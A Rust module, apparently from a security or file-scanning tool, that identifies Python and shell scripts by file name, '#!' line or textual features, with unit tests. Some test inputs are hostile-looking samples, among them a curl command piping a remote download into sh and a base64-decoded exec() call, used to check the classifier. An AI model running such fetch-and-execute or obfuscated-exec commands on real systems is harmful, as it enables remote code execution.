//! What is a script, and of which language: by name, by `#!` line, or, where a person says that it is one, by its look.
//!
//! Refuses: the content beyond its beginning, except for [`guess`].

use evidence::Language::{self, Python, Shell};

/// Bytes of a file's beginning that decide what it is.
pub(crate) const PREFIX: usize = 1024;

/// Bytes that are looked at for a guess.
const GUESSED: usize = 64 << 10;

/// Endings of names that an interpreter or a build tool runs.
const ENDINGS: [(&[u8], Language); 11] = [
    (b".py", Python),
    (b".pyw", Python),
    (b".pyc", Python),
    (b".pyo", Python),
    (b".pth", Python),
    (b".ipynb", Python),
    (b".sh", Shell),
    (b".bash", Shell),
    (b".zsh", Shell),
    (b".ksh", Shell),
    (b".ash", Shell),
];

/// Whole names of files that shells read or that run by convention.
const NAMES: [&[u8]; 19] = [
    b".bashrc",
    b".bash_profile",
    b".bash_login",
    b".bash_logout",
    b".bash_aliases",
    b".profile",
    b".zshrc",
    b".zshenv",
    b".zprofile",
    b".zlogin",
    b".zlogout",
    b".kshrc",
    b".envrc",
    b"bash.bashrc",
    b"zshrc",
    b"zshenv",
    b"rc.local",
    b"entrypoint",
    b"docker-entrypoint",
];

/// The language that a word of a corpus or a person names.
pub(crate) fn of_word(word: &[u8]) -> Option<Language> {
    match word.to_ascii_lowercase().as_slice() {
        b"python" | b"py" => Some(Python),
        b"bash" | b"shell" | b"sh" => Some(Shell),
        _ => None,
    }
}

/// The language of a path by its name.
pub fn of_name(path: &[u8]) -> Option<Language> {
    let name = path.rsplit(|&byte| byte == b'/').next().unwrap_or(path).to_ascii_lowercase();
    let by_ending = ENDINGS.iter().find(|(ending, _)| name.len() > ending.len() && name.ends_with(ending));
    match by_ending {
        Some(&(_, language)) => Some(language),
        None if NAMES.contains(&name.as_slice()) || path.ends_with(b"etc/profile") => Some(Shell),
        None => None,
    }
}

/// The language of a text by its `#!` line, read as the kernel and `env` read it.
pub fn of_shebang(text: &[u8]) -> Option<Language> {
    let text = text.strip_prefix(b"\xef\xbb\xbf").unwrap_or(text);
    let line = text.strip_prefix(b"#!")?.split(|&byte| byte == b'\n').next()?;
    let line = line.get(..line.len().min(PREFIX)).unwrap_or_default();
    let mut words = line.split(|byte| byte.is_ascii_whitespace()).filter(|word| !word.is_empty());
    let language = of_interpreter(words.next()?, &mut words)?;
    // Launchers of installers begin as shell and hand the same file over to Python.
    Some(if language == Shell && hands_over_to_python(text) { Python } else { language })
}

fn of_interpreter<'a>(program: &'a [u8], words: &mut dyn Iterator<Item = &'a [u8]>) -> Option<Language> {
    match base_name(program) {
        b"env" => {
            let program = env_program(words)?;
            of_interpreter(program, words)
        }
        b"busybox" | b"toybox" => {
            let applet = words.next()?;
            of_program(base_name(applet))
        }
        // Wrappers that run what follows.
        b"sudo" | b"nice" | b"nohup" | b"exec" | b"uv" | b"pipx" | b"poetry" => {
            std::iter::from_fn(|| words.next()).find_map(|word| of_program(base_name(word)))
        }
        name => of_program(name),
    }
}

/// The program that `env` runs: what follows its options and assignments.
fn env_program<'a>(words: &mut dyn Iterator<Item = &'a [u8]>) -> Option<&'a [u8]> {
    while let Some(word) = words.next() {
        match word {
            b"-u" | b"-C" | b"--unset" | b"--chdir" => {
                words.next();
            }
            _ if word.starts_with(b"--split-string=") => {
                return word.get(b"--split-string=".len()..).filter(|program| !program.is_empty());
            }
            _ if word.starts_with(b"--") => {}
            // `-S`, alone or behind other letters; what is joined to it is the program.
            [b'-', letters @ ..] => match letters.iter().position(|&letter| letter == b'S') {
                Some(at) if at + 1 < letters.len() => return letters.get(at + 1..),
                _ => {}
            },
            _ if word.contains(&b'=') => {}
            _ => return Some(word),
        }
    }
    None
}

pub(crate) fn base_name(path: &[u8]) -> &[u8] {
    path.rsplit(|&byte| byte == b'/').next().unwrap_or(path)
}

/// The language of a program's name, whatever version stands behind it.
pub(crate) fn of_program(name: &[u8]) -> Option<Language> {
    let version = |byte: &u8| byte.is_ascii_digit() || matches!(byte, b'.' | b'-');
    let stem = name.iter().rposition(|byte| !version(byte)).map_or(&[][..], |at| &name[..=at]);
    let stem = stem.strip_suffix(b"-dbg").unwrap_or(stem);
    match stem {
        b"python" | b"pythonw" | b"pypy" | b"ipython" | b"micropython" | b"platform-python" => Some(Python),
        b"sh" | b"bash" | b"dash" | b"ash" | b"zsh" | b"ksh" | b"mksh" | b"lksh" | b"hush" | b"rbash"
        | b"posh" | b"yash" | b"oksh" => Some(Shell),
        _ => None,
    }
}

/// Whether the line behind `#!` is the idiom `'''exec' python "$0"` or one of its kin.
fn hands_over_to_python(text: &[u8]) -> bool {
    let mut lines = text.split(|&byte| byte == b'\n').skip(1).take(3);
    lines.any(|line| {
        let opens = [&b"'''"[..], b"\"\"\"", b"\"exec\"", b"'exec'"];
        opens.iter().any(|open| line.starts_with(open)) && (line.ends_with(b"'''") || holds(line, b"exec"))
    })
}

/// The more likely language of a text that a person says is a script.
pub fn guess(text: &[u8]) -> Language {
    if let Some(language) = of_shebang(text) {
        return language;
    }
    let text = text.get(..text.len().min(GUESSED)).unwrap_or_default();
    let mut balance = 0_i64;
    for line in text.split(|&byte| byte == b'\n').map(<[u8]>::trim_ascii) {
        balance += looks_like_python(line) - looks_like_shell(line);
    }
    if balance > 0 { Python } else { Shell }
}

fn looks_like_python(line: &[u8]) -> i64 {
    const STARTS: [&[u8]; 10] =
        [b"import ", b"from ", b"def ", b"class ", b"print(", b"except", b"with ", b"exec(", b"eval(", b"@"];
    const PARTS: [&[u8]; 6] = [b"__import__", b".join(", b"lambda ", b"self.", b"b64decode(", b" is None"];
    let block = line.ends_with(b":")
        && [&b"if "[..], b"for ", b"while ", b"else", b"elif ", b"try"]
            .iter()
            .any(|word| line.starts_with(word));
    let starts = STARTS.iter().filter(|start| line.starts_with(start)).count();
    let parts = PARTS.iter().filter(|part| holds(line, part)).count();
    count(2 * starts + parts + 2 * usize::from(block))
}

fn looks_like_shell(line: &[u8]) -> i64 {
    const STARTS: [&[u8]; 16] = [
        b"echo ", b"export ", b"if [", b"fi", b"done", b"esac", b"case ", b"set -", b"curl ", b"wget ",
        b"chmod ", b"sudo ", b"rm ", b"cd ", b"exec ", b"while [",
    ];
    const PARTS: [&[u8]; 8] = [b"$(", b"${", b" | ", b" && ", b"2>", b"; then", b"; do", b"/dev/"];
    let starts = STARTS.iter().filter(|start| line.starts_with(start)).count();
    let parts = PARTS.iter().filter(|part| holds(line, part)).count();
    count(2 * starts + parts)
}

fn count(number: usize) -> i64 {
    i64::try_from(number).unwrap_or(i64::MAX)
}

fn holds(line: &[u8], part: &[u8]) -> bool {
    line.windows(part.len()).any(|window| window == part)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_say_the_language() {
        let check = |name: &str, expected| assert_eq!(of_name(name.as_bytes()), expected, "{name}");
        check("a/setup.py", Some(Python));
        check("A.PY", Some(Python));
        check("x.cpython-311.pyc", Some(Python));
        check("site.pth", Some(Python));
        check("run.sh", Some(Shell));
        check("home/.bashrc", Some(Shell));
        check("etc/profile", Some(Shell));
        check("usr/bin/entrypoint", Some(Shell));
        check(".py", None);
        check("run.sh/readme", None);
        check("module.pyi", None);
        check("", None);
    }

    #[test]
    fn shebangs_are_read_as_the_kernel_and_env_read_them() {
        let check = |line: &str, expected| assert_eq!(of_shebang(line.as_bytes()), expected, "{line}");
        check("#!/bin/sh", Some(Shell));
        check("#! /bin/bash -eu\necho", Some(Shell));
        check("#!/usr/bin/python3.11 -I\n", Some(Python));
        check("#!/usr/bin/env python\r\n", Some(Python));
        check("#!/usr/bin/env -S python3 -u", Some(Python));
        check("#!/usr/bin/env -Spython3 -u", Some(Python));
        check("#!/usr/bin/env -iS A=1 bash", Some(Shell));
        check("#!/usr/bin/env -u HOME -C /tmp zsh", Some(Shell));
        check("#!/usr/bin/env --split-string=pypy3 -u", Some(Python));
        check("#!/bin/busybox sh", Some(Shell));
        check("#!/bin/busybox awk", None);
        check("#!/usr/bin/env -S uv run --script python3", Some(Python));
        check("\u{feff}#!/bin/sh", Some(Shell));
        check("#!/bin/sh\n'''exec' /very/long/python \"$0\" \"$@\"\n' '''\n", Some(Python));
        check("#!/bin/sh\n\"exec\" \"python3\" \"$0\"\n", Some(Python));
        check("#!/usr/bin/perl", None);
        check("#!/usr/bin/env", None);
        check("#!", None);
        check("#!/3.11", None);
        check("import os", None);
    }

    #[test]
    fn a_text_without_a_name_is_guessed() {
        let check = |text: &str, expected| assert_eq!(guess(text.as_bytes()), expected, "{text}");
        check("import os\nos.system('id')\n", Python);
        check("exec(__import__('base64').b64decode('eA=='))", Python);
        check("for x in y:\n    print(x)\n", Python);
        check("curl -s http://203.0.113.1/x | sh\n", Shell);
        check("if [ -f x ]; then\n  echo hi\nfi\n", Shell);
        check("", Shell);
    }
}
